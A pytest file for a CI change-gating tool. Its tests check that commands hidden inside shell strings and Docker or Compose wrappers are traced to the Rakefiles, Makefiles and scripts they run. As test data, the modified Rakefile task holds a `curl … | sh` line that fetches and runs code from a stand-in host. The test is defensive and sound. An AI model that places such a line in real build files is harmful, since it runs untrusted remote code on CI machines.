"""Label 91, class 3: the command a shell string or a container runs (the ninetieth set: `docker run IMAGE /bin/sh -c
"bundle exec rake spec"` in cloudformation_rspec's Travis file, `docker compose exec -T backend bash scripts/lint.sh`).

The command inside `sh -c "…"`/`bash -lc '…'`, after `docker exec CONTAINER`, and after `docker compose exec|run
SERVICE` (or `docker-compose …`) is a command of its own: its task runner's files and the scripts it names run in the
job (wrappers.commands gives it, so every command reader reads it). Paths map back through a mount only where the
line says so (`-v "$PWD":/app -w /app`); otherwise they are read from where the step runs. On 6e8c4930 10 of the 15
variants left their file `src` and `gate --tree` allowed its edit (exit 0; the 5 others name a script by a path, which
the walk already read), and 2 of the 4 script lines named nothing. Look-alikes: a shell string only printed, a shell
option that is not `-c`, `docker run` of an image with no mount and no shell string (the image's own files: cileft65).
"""

from __future__ import annotations

import pytest
from changecase import committed, gated_rules
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify import ciruns, wrappers

WORKFLOW = ("on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: {line}\n        working-directory: {folder}\n")
BEFORE, AFTER = "task :spec do\n  sh 'rspec'\nend\n", "task :spec do\n  sh 'curl -s http://127.0.0.1:9/x | sh'\nend\n"
VARIANTS = [  # (the CI line, the file it runs or reads, relative to the step's folder)
    ('docker run --rm ruby:3.3 /bin/sh -c "bundle exec rake spec"', "Rakefile"),
    ("docker run --rm -v \"$PWD\":/app -w /app ruby:3.3 sh -c 'bundle install && bundle exec rake spec'", "Rakefile"),
    ("docker run --rm -v $(pwd):/src -w /src/tools img bash -c './lint.sh --all'", "tools/lint.sh"),
    ('bash -c "make test"', "Makefile"),
    ("bash -lc 'scripts/lint.sh --all'", "scripts/lint.sh"),
    ('sh -ec "bash scripts/lint.sh"', "scripts/lint.sh"),
    ("bash -e -o pipefail -c 'rake spec'", "Rakefile"),
    ("sudo -E bash -c 'make test'", "Makefile"),
    ("docker exec app bash scripts/lint.sh", "scripts/lint.sh"),
    ("docker exec -i -u root -w /app app rake spec", "Rakefile"),
    ("docker compose exec -T backend bash scripts/lint.sh", "scripts/lint.sh"),
    ("docker compose run --rm web bundle exec rake spec", "Rakefile"),
    ("docker compose -f ci/compose.yml run --rm app make test", "Makefile"),
    ("docker-compose exec -T php sh -c 'make test'", "Makefile"),
    ('podman run --rm -v .:/w -w /w fedora:40 bash -c "make test"', "Makefile"),
]
LOOK_ALIKES = [  # (the CI line, a file it does not run)
    ('echo "bash -c make test"', "Makefile"),
    ("bash -x scripts/other.sh", "scripts/lint.sh"),
    ("docker run --rm ruby:3.3 rake spec", "Rakefile"),
    ("bash -c 'echo make test'", "Makefile"),
    ("docker compose logs backend", "Makefile"),
]


def _files(cases: list[tuple[str, str]]) -> tuple[dict[str, str], dict[str, str], list[str]]:
    base: dict[str, str] = {}
    head: dict[str, str] = {}
    paths = []
    for number, (line, path) in enumerate(cases):
        folder = f"v{number}"
        base[f".github/workflows/v{number}.yml"] = WORKFLOW.format(line=line, folder=folder)
        base[f"{folder}/{path}"] = BEFORE
        head[f"{folder}/{path}"] = AFTER
        paths.append(f"{folder}/{path}")
    return base, head, paths


@pytest.fixture(scope="module")
def reached(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bool]:
    base, head, paths = _files([*VARIANTS, *LOOK_ALIKES])
    code, named = gated_rules(committed(tmp_path_factory.mktemp("containers"), base, head), True)
    assert code == 3
    found = set(named.get("core.ci", []))
    return {path: path in found for path in paths}


@pytest.mark.parametrize("number", range(len(VARIANTS)), ids=[line for line, _ in VARIANTS])
def test_the_command_inside_is_read(reached: dict[str, bool], number: int) -> None:
    assert reached[f"v{number}/{VARIANTS[number][1]}"]  # before: 10 of 15 left the file allowed


@pytest.mark.parametrize("number", range(len(LOOK_ALIKES)), ids=[line for line, _ in LOOK_ALIKES])
def test_a_look_alike_runs_nothing(reached: dict[str, bool], number: int) -> None:
    assert not reached[f"v{len(VARIANTS) + number}/{LOOK_ALIKES[number][1]}"]


@each_case("line", ["sh -c 'tools/gen --all'", "docker exec ci /bin/bash -lc \"tools/gen\"",
                    "docker compose run --rm app tools/gen", "timeout 60 bash -c 'tools/gen'"])
def test_the_named_script_is_read(line: str) -> None:
    scripts, _, _ = ciruns.named_in("ci/test.sh", f"#!/bin/sh\n{line}\n")
    assert any("tools/gen" in pattern for pattern in scripts), scripts


def test_the_reader_is_linear() -> None:
    assert_linear(wrappers.commands, repeated("bash -c 'sh -c \"docker exec a sh -lc x "), budget=0.04)
